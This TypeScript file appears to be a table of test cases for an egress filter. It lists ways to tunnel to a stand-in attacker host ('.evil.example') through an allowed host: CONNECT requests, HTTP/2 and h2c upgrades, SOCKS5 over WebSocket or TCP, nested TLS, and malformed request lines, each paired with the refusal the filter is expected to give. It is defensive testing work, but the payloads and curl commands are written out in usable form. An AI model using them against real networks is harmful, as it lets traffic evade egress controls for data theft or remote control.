/** Ways to speak to somebody else through a host that is allowed. */
import { refusal, saw, type AttackTable } from "../attack.ts";

const connect = { row: 12, succeeded: saw("host", /CONNECT/), ...refusal("connect-in-http") } as const;

/** What only some servers take for a request. */
const odd = {
  row: 12,
  succeeded: saw("host", /\.evil\.example/),
  told: /egress_refused/,
  rule: /malformed-request|authority-mismatch/,
} as const;

export const tunnels: AttackTable = {
  title: "Tunnels inside an allowed host",
  prefix: "t",
  attacks: [
    {
      ...connect,
      name: "CONNECT inside TLS",
      python: String.raw`talk(tls(HOST), f"CONNECT {EVIL}:443 HTTP/1.1\r\nHost: {EVIL}:443\r\n\r\n", "GET / HTTP/1.1\r\n\r\n")`,
    },
    {
      ...connect,
      name: "CONNECT to the host itself",
      python: String.raw`talk(tls(HOST), f"CONNECT {HOST}:22 HTTP/1.1\r\nHost: {HOST}:22\r\n\r\n")`,
    },
    {
      ...connect,
      name: "CONNECT by curl over a proxy port",
      bash: `curl -sS -k -m 8 -p -x https://$HOST:443 --proxy-insecure https://$EVIL/ 2>&1; true`,
      told: /403|refused|CONNECT tunnel failed/i,
    },
    {
      ...connect,
      name: "absolute target over a proxy port",
      bash: `curl -sS -m 8 --proxy-insecure -x https://$HOST:443 http://$EVIL/`,
      succeeded: saw("host", /\.evil\.example/),
      ...refusal("authority-mismatch"),
    },
    {
      ...connect,
      name: "HTTP/2 CONNECT",
      python: `h2(HOST, field(":method", "CONNECT") + field(":authority", EVIL + ":443"))`,
      told: /egress_refused|reset|goaway/,
      rule: /connect-in-http|authority-mismatch|malformed-request|allowed/,
    },
    {
      row: 12,
      succeeded: saw("host", /CONNECT/),
      // Ended by the frame layer, so there never was a request to record.
      name: "HTTP/2 extended CONNECT",
      python: `h2(HOST, field(":method", "CONNECT") + field(":protocol", "websocket") + field(":scheme", "https") + field(":path", "/") + field(":authority", HOST))`,
      told: /egress_refused|reset|goaway/,
    },
    {
      row: 12,
      name: "upgrade to HTTP/2 without TLS",
      python: String.raw`talk(tls(HOST), f"GET / HTTP/1.1\r\nHost: {HOST}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", pause=0.3)`,
      succeeded: saw("host", /h2c|HTTP2-Settings/i),
    },
    {
      row: 12,
      name: "upgrade to something else",
      python: String.raw`talk(tls(HOST), f"GET / HTTP/1.1\r\nHost: {HOST}\r\nConnection: Upgrade\r\nUpgrade: tls/1.0, socks\r\n\r\n", "\x05\x01\x00", pause=0.3)`,
      succeeded: saw("host", /upgrade: tls/i),
    },
    {
      row: 12,
      name: "WebSocket in which something else is spoken",
      python: `web_socket(HOST, "/?in=none", frames=[b"\\x05\\x01\\x00\\x03" + EVIL.encode() + b"\\x01\\xbb", b"CONNECT " + EVIL.encode()])`,
      succeeded: saw("host", /CONNECT|\.evil\.example/),
      rule: "malformed-frame",
    },
    {
      row: 12,
      name: "WebSocket frames without mask",
      python: `web_socket(HOST, "/?in=none", frames=[b"\\x81\\x0bsmuggled123"])`,
      succeeded: saw("host", /smuggled123/),
      rule: "malformed-frame",
    },
    {
      row: 12,
      name: "TLS inside TLS",
      python: String.raw`talk(tls(HOST), client_hello(EVIL))`,
      succeeded: saw("host", /\x16\x03/),
      rule: "nested-tls",
    },
    {
      row: 12,
      name: "SOCKS 5 to an allowed host",
      python: String.raw`talk(tcp(HOST, 1080), "\x05\x01\x00", b"\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() + b"\x01\xbb", pause=0.3)`,
      succeeded: saw("host", /\.evil\.example/),
      rule: "proxy-protocol",
    },
    {
      row: 12,
      name: "blank lines and blanks before the request",
      python: String.raw`talk(tls(HOST), f"\r\n\r\n \tGET http://{EVIL}/ HTTP/1.1\r\nHost: {EVIL}\r\n\r\n")`,
      succeeded: saw("host", /\.evil\.example/),
    },
    {
      row: 12,
      name: "SOCKS 5 in one piece",
      python: String.raw`talk(tcp(HOST, 1080), b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(EVIL)]) + EVIL.encode() + b"\x01\xbb")`,
      succeeded: saw("host", /\.evil\.example/),
      rule: "proxy-protocol",
    },
    {
      ...odd,
      name: "a request without a version",
      python: String.raw`talk(tls(HOST), f"GET /\r\nHost: {EVIL}\r\n\r\n")`,
    },
    {
      ...odd,
      name: "a request of RTSP, which servers of HTTP take too",
      python: String.raw`talk(tls(HOST), f"POST rtsp://{HOST}/ RTSP/1.0\r\nHost: {EVIL}\r\n\r\n")`,
    },
    {
      ...odd,
      name: "a method longer than any",
      python: String.raw`talk(tls(HOST), f"{'A' * 80} / HTTP/1.1\r\nHost: {EVIL}\r\n\r\n")`,
    },
  ],
};
